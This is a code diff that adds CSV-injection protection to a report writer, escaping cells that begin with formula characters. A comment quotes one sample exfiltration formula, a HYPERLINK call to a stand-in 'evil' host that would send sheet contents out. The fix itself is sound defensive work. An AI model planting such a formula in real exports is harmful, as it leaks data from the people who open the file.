@@ -92,8 +92,23 @@ class OverrideReport:
             ("total", [self.totals]),
         ):
             for g in groups:
-                writer.writerow({**g, "scope": scope, "rooms": ";".join(g["rooms"])})
+                row = {**g, "scope": scope, "rooms": ";".join(g["rooms"])}
+                writer.writerow({k: csv_cell(v) for k, v in row.items()})
         return out.getvalue()
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula: a proctor or session
+# id like `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run code on the auditor's
+# machine (OWASP "CSV injection"). Such text cells get a leading apostrophe, which the
+# spreadsheet shows as text and does not evaluate.
+_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """A value safe to write into a CSV cell an auditor opens in a spreadsheet."""
+    if isinstance(value, str) and value.startswith(_FORMULA_PREFIXES):
+        return "'" + value
+    return value
 
 
 def _add(g: GroupCounts, rtype: str, decision: str | None, n: int, room: str | None) -> None:
